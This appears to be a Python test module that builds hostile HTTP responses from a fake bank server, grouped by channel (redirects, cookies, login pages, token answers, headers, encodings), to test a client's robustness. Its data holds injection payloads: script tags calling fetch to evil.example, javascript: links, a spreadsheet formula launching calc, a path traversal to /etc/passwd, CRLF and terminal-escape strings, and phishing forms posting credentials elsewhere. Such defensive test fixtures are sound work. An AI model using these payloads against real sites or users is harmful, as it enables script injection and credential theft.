"""What a hostile bank puts in place of its answers: a table of values by channel.

An entry changes one whole answer of the embedded bank into bytes of the wire, or into a function
that is given the connection. `KINDS` says which answers a channel is about.
"""

import gzip
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.hostile import plays
from tests.hostile.plays import Play

ESC, BELL, CSI, BIDI = "\x1b]0;owned\x07", "\x07\x08\x7f", "\x9b31m\x9d", "\u202egnp.exe\u2066"
SCRIPT = "</script></title><script>window.owned=1;fetch('https://evil.example/a')</script>"
IMAGE = '"><img src=https://evil.example/b onerror=window.owned=1><svg onload=window.owned=1>'
LINK = "[a](javascript:window.owned=1) ![b](https://evil.example/c)"
FORMULA, TEMPLATE, PATH = "=cmd|'/C calc'!A1", "{{7*7}}${7*7}%s%n<%=1%>", "../../../../etc/passwd"
LONG, NUL, LINES = "a" * 100_000, "a\0b", "a\r\nX-Owned: 1\r\n\r\nHTTP/1.1 200 OK"
SURROGATE, ANSI_LINK = "\ud800", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
TEXTS = {
    "OSC": ESC,
    "bell and delete": BELL,
    "C1 controls": CSI,
    "bidirectional": BIDI,
    "script": SCRIPT,
    "image": IMAGE,
    "Markdown link": LINK,
    "formula": FORMULA,
    "template": TEMPLATE,
    "path": PATH,
    "100 kB": LONG,
    "NUL": NUL,
    "line breaks": LINES,
    "surrogate": SURROGATE,
    "terminal link": ANSI_LINK,
}
"""Texts that do harm where somebody shows them as they are."""

HOSTS = {
    "label of 64": "a" * 64 + ".example",
    "empty label": "a..example",
    "leading dot": ".example",
    "port no number": "bank.example:abc",
    "port 0": "127.0.0.1:0",
    "port too large": "127.0.0.1:99999",
    "odd IDN": "\u2488.example",
    "punycode that is none": "xn--\u00e9.example",
    "IPv6 with a zone": "[fe80::1%25eth0]",
    "IPv6 broken": "[::1",
    "user in front": "127.0.0.1@evil.example",
    "backslash": "evil.example\\@127.0.0.1",
    "blank": "evil example",
    "escape": "\x1b[2J.example",
    "nothing": "",
    "long": "a." * 2000 + "example",
}


@dataclass(frozen=True)
class Whole:
    """An answer of the bank: its status, header fields and body."""

    status: int
    headers: tuple[tuple[str, str], ...]
    content: bytes

    def wire(
        self, *more: str, line: str = "", content: bytes | None = None, drop: str = ""
    ) -> bytes:
        """The answer as octets, with further header lines and another status line or body."""
        body = self.content if content is None else content
        left = {"content-length", "connection", *drop.lower().split()}
        kept = [f"{name}: {value}" for name, value in self.headers if name.lower() not in left]
        sized = [] if "transfer-encoding" in drop else [f"Content-Length: {len(body)}"]
        lines = [line or f"HTTP/1.1 {self.status} X", *kept, *more, *sized, "Connection: close"]
        return "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogatepass") + body


Spoil = Callable[[Whole], Play]


def _text(value: str) -> str:
    """A text that fits on a header line."""
    return value.replace("\r\n", "\r\n ").replace("\0", "\\0")


def location(target: str) -> Spoil:
    """A redirect that leads elsewhere."""
    return lambda whole: whole.wire(f"Location: {target}", drop="location")


def header(name: str, value: str) -> Spoil:
    """A header field in place of the bank's own."""
    return lambda whole: whole.wire(f"{name}: {value}", drop=name)


def _members(value: object, text: str) -> object:
    """JSON in which each text is another."""
    if isinstance(value, dict):
        return {name: _members(each, text) for name, each in value.items()}
    if isinstance(value, list):
        return [_members(each, text) for each in value]
    return text if isinstance(value, str) else value


def members(text: str) -> Spoil:
    """A JSON body, each text of which is this one, and a member that is called so."""

    def spoil(whole: Whole) -> Play:
        try:
            told = json.loads(whole.content)
        except ValueError:
            told = {}
        changed = _members(told, text)
        changed = {**changed, text: text} if isinstance(changed, dict) else changed
        return whole.wire(content=json.dumps(changed).encode())

    return spoil


def body(content: bytes, kind: str = "") -> Spoil:
    """Another body, of another type."""

    def spoil(whole: Whole) -> Play:
        more, drop = ([f"Content-Type: {kind}"], "content-type") if kind else ([], "")
        return whole.wire(*more, content=content, drop=drop)

    return spoil


def page(text: str) -> Spoil:
    """A page that says this in its title, its form's address and its fields' names."""
    html = f"""<html><head><title>{text}</title></head><body><form action="{text}" method="post">
        <input name="{text}" value="{text}"><input name="csrf" value="{text}"><button>{text}
        </button></form>{text}</body></html>"""
    return body(html.encode("utf-8", "surrogatepass"), "text/html")


def form(action: str) -> Spoil:
    """A login page whose form leads elsewhere."""
    html = f"""<form action="{action}" method="post"><input name="login"><input name="password">
        <button name="button" value="ok">OK</button></form>"""
    return body(html.encode("utf-8", "surrogatepass"), "text/html")


def raw(play: Play) -> Spoil:
    """Bytes of the wire, whatever the bank would have said."""
    return lambda _: play


def _texts(make: Callable[[str], Spoil], *names: str) -> dict[str, Spoil]:
    return {name: make(TEXTS[name]) for name in names or TEXTS}


def _coded(content: bytes, *fields: str) -> Spoil:
    return lambda whole: whole.wire(*fields, content=content)


CHUNKS = b"4\r\nabcd\r\nzz\r\n"
CHANNELS: Mapping[str, dict[str, Spoil]] = {
    "redirect hosts": {name: location(f"https://{host}/x") for name, host in HOSTS.items()},
    "Location": {
        **_texts(lambda text: location(_text(text))),
        "a file": location("file:///etc/passwd"),
        "a script": location("javascript:window.owned=1"),
        "empty": location(""),
        "call-back with controls": location(f"https://tpp.example.com/callback?code={ESC}"),
    },
    "metadata": {
        **_texts(members),
        "an array": body(b"[1]"),
        "null": body(b"null"),
        "numbers": body(b'{"issuer": 1, "scopes_supported": 7, "token_endpoint": [1]}'),
        "deep": body(b"[" * 100_000),
    },
    "headers": {
        **_texts(lambda text: header("X-Request-ID", _text(text))),
        "name with controls": header("X-\x1b[2J", "a"),
        "date": header("Date", "Sun, 99 Foo 2026 99:99:99 GMT"),
    },
    "cookies": {
        **_texts(
            lambda text: header("Set-Cookie", _text(f"session={text}; Path=/")), "OSC", "script"
        ),
        "an everyday word": header("Set-Cookie", "a=expected; Path=/"),
        "a verdict": header("Set-Cookie", "a=CONFORMANT; Path=/"),
        "2,500 of them": lambda whole: whole.wire(*(f"Set-Cookie: a{n}=b{n}" for n in range(900))),
        "no name": header("Set-Cookie", "=;;;=; a; \x1b"),
        "of another host": header("Set-Cookie", "a=b; Domain=evil.example"),
    },
    "login pages": {
        **_texts(page),
        "form over http": form("http://127.0.0.1:1/login"),
        "form to another host": form("https://evil.example/login"),
        "form to a script": form("javascript:window.owned=1"),
        "form to no URL": form("https://[bad/"),
        "tags that never end": body(b"<input " * 130_000, "text/html"),
    },
    "refusals": {**_texts(members), "an array": body(b'["a"]'), "a page": page(SCRIPT)},
    "token answers": {
        **_texts(members),
        "expires_in of 1e999": body(
            b'{"access_token":"a","token_type":"Bearer","expires_in":1e999}'
        ),
        "a number of 9,000 digits": body(b'{"access_token":"a","expires_in":' + b"9" * 9000 + b"}"),
    },
    "resources": {**_texts(members), "deep": body(b'{"a":' * 50_000), "null": body(b"null")},
    "WWW-Authenticate": _texts(
        lambda text: header("WWW-Authenticate", _text(f'Bearer realm="{text}", error="{text}"'))
    ),
    "status lines": {
        **{name: raw(play) for name, play in plays.STATUS_LINES.items() if isinstance(play, bytes)},
        "reason with controls": lambda whole: whole.wire(line=f"HTTP/1.1 {whole.status} {ESC}"),
        "reason with a script": lambda whole: whole.wire(line=f"HTTP/1.1 {whole.status} {SCRIPT}"),
    },
    "chunks and codings": {
        "chunk size no number": lambda whole: whole.wire(
            "Transfer-Encoding: chunked", content=CHUNKS, drop="transfer-encoding"
        ),
        "gzip that is none": _coded(b"plain", "Content-Encoding: gzip"),
        "gzip cut short": _coded(gzip.compress(b"{}")[:-9], "Content-Encoding: gzip"),
        **{
            name: raw(plays.CODINGS[name]) for name in ("gzip bomb", "deflate bomb", "gzip in gzip")
        },
        "length too large": lambda whole: whole.wire("X: 1")[: -1 - len(whole.content) // 2],
        "trailer flood": raw(plays.LENGTHS["trailer flood"]),
    },
    "content types": {
        **_texts(
            lambda text: header("Content-Type", _text(f"text/html; charset={text}")), "OSC", "NUL"
        ),
        "UTF-7": body(b"+ADw-script+AD4-window.owned=1", "text/html; charset=utf-7"),
        "UTF-16": body('{"error":"\u202e"}'.encode("utf-16"), "application/json; charset=utf-16"),
        "a charset that is none": header("Content-Type", "application/json; charset=klingon"),
        "a codec that is no charset": header("Content-Type", "text/html; charset=rot13"),
        "HTML said to be JSON": body(SCRIPT.encode(), "application/json"),
        "SVG": body(f"<svg>{SCRIPT}</svg>".encode(), "image/svg+xml"),
        "none": lambda whole: whole.wire(drop="content-type"),
    },
}
"""Entries by channel; the fourteenth, subjects of certificates, is tests/hostile/subjects.py."""

ALL = ("redirect", "page", "metadata", "token", "refusal", "resource", "challenge")
KINDS: Mapping[str, tuple[str, ...]] = {
    **dict.fromkeys(CHANNELS, ALL),
    "redirect hosts": ("redirect",),
    "Location": ("redirect",),
    "metadata": ("metadata",),
    "login pages": ("page",),
    "refusals": ("refusal", "challenge"),
    "token answers": ("token",),
    "resources": ("resource",),
    "WWW-Authenticate": ("challenge", "refusal"),
}
"""Which answers a channel is about."""

ENTRIES = [(channel, name) for channel, entries in CHANNELS.items() for name in entries]
